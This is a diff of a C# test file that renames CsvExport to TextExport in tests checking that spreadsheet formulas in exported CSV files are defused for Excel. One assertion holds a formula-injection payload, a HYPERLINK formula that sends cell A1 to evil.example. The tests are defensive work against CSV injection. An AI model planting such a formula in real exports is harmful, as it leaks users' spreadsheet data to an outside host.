@@ -56,7 +56,7 @@ public sealed class FormulaExportTests : IAsyncDisposable
     {
         var (database, studyId) = await ImportAsync();
 
-        var csv = await ExportAsync(output => new CsvExport(database).WriteRatingsAsync(studyId, output));
+        var csv = await ExportAsync(output => new TextExport(database).WriteRatingsAsync(studyId, output));
 
         Assert.Equal(ExpectedRatings(typed => typed), csv);
     }
@@ -65,7 +65,7 @@ public sealed class FormulaExportTests : IAsyncDisposable
     public async Task ThePlainWideAndHistoryFilesHoldWhatWasTyped()
     {
         var (database, studyId) = await ImportAsync();
-        var export = new CsvExport(database);
+        var export = new TextExport(database);
 
         var wide = Cells(await ExportAsync(output => export.WriteRatingsWideAsync(studyId, output)));
         var history = Cells(await ExportAsync(output => export.WriteHistoryAsync(studyId, output)));
@@ -82,7 +82,7 @@ public sealed class FormulaExportTests : IAsyncDisposable
     {
         var (database, studyId) = await ImportAsync();
 
-        var csv = await ExportAsync(output => new CsvExport(database, forExcel: true).WriteRatingsAsync(studyId, output));
+        var csv = await ExportAsync(output => new TextExport(database, forExcel: true).WriteRatingsAsync(studyId, output));
 
         Assert.Equal(ExpectedRatings(FormulaStudy.ForExcel), csv);
         Assert.Contains("ann,dose_error,-0.5,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",", csv);
@@ -94,11 +94,11 @@ public sealed class FormulaExportTests : IAsyncDisposable
     public async Task TheExcelWideAndHistoryFilesDefuseTheFormulasAndACriterionIdThatReadsAsOne()
     {
         var (database, studyId) = await ImportAsync();
-        var plain = new CsvExport(database);
-        var excel = new CsvExport(database, forExcel: true);
+        var plain = new TextExport(database);
+        var excel = new TextExport(database, forExcel: true);
 
         // Each of the 8 formulas among the 14 texts is a note, and in history.csv a comment too; and the id -A1 once.
-        foreach (var (write, defused) in new (Func<CsvExport, TextWriter, Task<long>>, int)[]
+        foreach (var (write, defused) in new (Func<TextExport, TextWriter, Task<long>>, int)[]
                  {
                      ((export, output) => export.WriteRatingsWideAsync(studyId, output), 8 + 1),
                      ((export, output) => export.WriteHistoryAsync(studyId, output), 2 * 8 + 1),
@@ -118,8 +118,8 @@ public sealed class FormulaExportTests : IAsyncDisposable
         _db = await TestDatabase.CreateAsync();
         var studyId = (await new StudyImporter(_db.Database, _db.Clock).ImportAsync(TestPaths.DemoBundle)).StudyId!.Value;
 
-        var plain = await ExportAsync(output => new CsvExport(_db.Database).WriteAgreementAsync(studyId, output));
-        var excel = await ExportAsync(output => new CsvExport(_db.Database, forExcel: true).WriteAgreementAsync(studyId, output));
+        var plain = await ExportAsync(output => new TextExport(_db.Database).WriteAgreementAsync(studyId, output));
+        var excel = await ExportAsync(output => new TextExport(_db.Database, forExcel: true).WriteAgreementAsync(studyId, output));
 
         Assert.Equal(plain, excel);
         Assert.Contains(Cells(plain).SelectMany(r => r), c => c.StartsWith('-') && double.TryParse(c, System.Globalization.CultureInfo.InvariantCulture, out _));
